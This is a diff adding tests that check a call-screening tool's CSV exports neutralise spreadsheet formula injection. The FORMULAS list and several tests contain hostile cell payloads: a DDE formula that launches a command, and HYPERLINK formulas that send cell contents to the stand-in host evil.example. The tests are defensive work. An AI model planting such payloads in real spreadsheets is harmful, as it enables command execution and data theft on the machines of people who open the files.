@@ -20,6 +20,8 @@ from fsguard import cli, migrate
 from fsguard.config import DatabaseSettings
 from fsguard.db import Database
 from fsguard.testing.simulator import Caller
+from test_recording import cli_env, settle  # noqa: F401 - fixtures and waits of the recording tests
+from test_recording import run as run_recording  # noqa: F401
 
 REPO = Path(__file__).resolve().parent.parent
 
@@ -206,7 +208,7 @@ def test_a_reader_that_goes_away_is_not_a_traceback(fsguard, settings, tmp_path)
 
 
 #: commands that change nothing and print a document of their own (TOML, CSV) or serve
-WITHOUT_JSON = {"serve", "config example", "config show", "lists export"}
+WITHOUT_JSON = {"serve", "config example", "config show", "lists export", "customers export"}
 
 
 def leaf_commands(parser: argparse.ArgumentParser, path: tuple[str, ...] = ()):
@@ -436,3 +438,104 @@ def test_simulate_call_prints_words_not_python(fsguard, settings, start_guard):
     assert code == 0, err
     assert "outcome: routed" in out and "exported: " in out
     assert not any(mark in out for mark in ("['", "{'", "True", "False")), out
+
+
+# ----------------------------------------- issue 16 item 7: formula injection
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1+1)", "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0", "\t=1+1"]
+
+
+def csv_cells(text: str) -> list[list[str]]:
+    import csv
+    import io
+
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_formula_unit_rules():
+    from fsguard.spreadsheet import looks_like_formula, safe_cell, unescape_cell
+
+    for formula in FORMULAS:
+        assert safe_cell(formula) == "'" + formula and unescape_cell(safe_cell(formula)) == formula
+    for plain in ("+12125550147", "-5", "3.5", "Ada Lovelace", "", "it's = fine", "'quoted"):
+        assert not looks_like_formula(plain) and safe_cell(plain) == plain and unescape_cell(plain) == plain
+
+
+def test_lists_export_writes_formulas_as_text_and_import_reads_them_back(fsguard, tmp_path):
+    for i, formula in enumerate(FORMULAS):
+        assert fsguard("lists", "add", f"+1212555{i:04d}", "--block", "7", "--reason", formula)[0] == 0
+    code, out, _ = fsguard("lists", "export")
+    assert code == 0
+    header, *rows = csv_cells(out)
+    reason = header.index("reason")
+    cells = {row[0]: row[reason] for row in rows}
+    for i, formula in enumerate(FORMULAS):
+        stored = " ".join(formula.split())          # a reason is kept on one line
+        assert cells[f"+1212555{i:04d}"] == "'" + stored   # a number keeps its +; the formula is text
+    exported = tmp_path / "list.csv"
+    exported.write_text(out)
+    fsguard("lists", "remove", "+12125550000")
+    assert fsguard("lists", "import", str(exported))[0] == 0
+    again = {e["number"]: e["reason"] for e in json.loads(fsguard("lists", "show", "--json")[1])["entries"]}
+    assert again["+12125550000"] == FORMULAS[0] and again["+12125550003"] == "@SUM(1+1)"
+
+
+@pytest.mark.parametrize("argv, problem", [
+    (["lists", "add", "+12125550147", "--block", "7", "--dnis", "=1+1"], "dnis '=1+1': expected a dialled number"),
+    (["lists", "add", "+12125550147", "--block", "7", "--dnis", "+1abc"], "expected a dialled number"),
+    (["customers", "add", "+12125550123", "--account", "=1+1"], "account_id '=1+1' cannot start with"),
+    (["customers", "add", "+12125550123", "--account", "A-1", "--region", "@SUM(1+1)"], "region '@SUM(1+1)'"),
+])
+def test_a_formula_is_refused_where_the_field_cannot_hold_one(fsguard, argv, problem):
+    code, out, err = fsguard(*argv)
+    assert code == 1 and out == ""
+    one_line_error(err, problem)
+
+
+def test_a_formula_in_an_import_is_a_bad_row(fsguard, tmp_path):
+    source = tmp_path / "in.csv"
+    source.write_text("number,kind,level,dnis\n+12125550147,block,7,=1+1\n+13125550100,block,7,5000\n")
+    code, out, err = fsguard("lists", "import", str(source), "--json", "--skip-invalid")
+    report = json.loads(out)
+    assert report["imported"] == 1 and [b["line"] for b in report["bad"]] == [2]
+    assert "=1+1" in report["bad"][0]["problem"]
+
+
+def test_customers_export_writes_a_name_formula_as_text_and_import_reads_it_back(fsguard, tmp_path):
+    name = '=HYPERLINK("http://evil.example","x")'
+    assert fsguard("customers", "add", "+12125550123", "--name", name, "--account", "A-1", "--vip")[0] == 0
+    code, out, _ = fsguard("customers", "export")
+    assert code == 0
+    assert csv_cells(out) == [["number", "name", "account", "vip", "queue", "agent", "region"],
+                              ["+12125550123", "'" + name, "A-1", "yes", "", "", ""]]
+    exported = tmp_path / "customers.csv"
+    exported.write_text(out)
+    fsguard("customers", "remove", "--account", "A-1")
+    assert fsguard("customers", "import", str(exported))[0] == 0
+    [customer] = json.loads(fsguard("customers", "show", "--json")[1])
+    assert (customer["name"], customer["account_id"], customer["vip"]) == (name, "A-1", True)
+
+
+def test_calls_csv_writes_a_caller_controlled_name_as_text(fsguard, screened):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    result = screened.call(Caller(ani="+13125550100", name=name))
+    code, out, _ = fsguard("calls", "--csv")
+    assert code == 0
+    header, *rows = csv_cells(out)
+    [row] = [r for r in rows if r[header.index("uuid")] == result.uuid]
+    assert row[header.index("caller_name")] == "'" + name
+    assert row[header.index("ani")] == "+13125550100"
+
+
+def test_recordings_csv_writes_an_operators_formula_as_text(run_recording, cli_env, capsys):
+    guard, fs = run_recording(mode="all")
+    result = fs.call(Caller(ani="+13125550100"))
+    settle(guard)
+    reason = "=HYPERLINK(\"http://evil.example\",\"case\")"
+    assert cli.main(["recordings", "hold", result.uuid, "--reason", reason]) == 0
+    capsys.readouterr()
+    assert cli.main(["recordings", "list", "--csv"]) == 0
+    header, row = csv_cells(capsys.readouterr().out)
+    assert row[header.index("uuid")] == result.uuid and row[header.index("number")] == "+13125550100"
+    assert row[header.index("hold_reason")] == "'" + reason
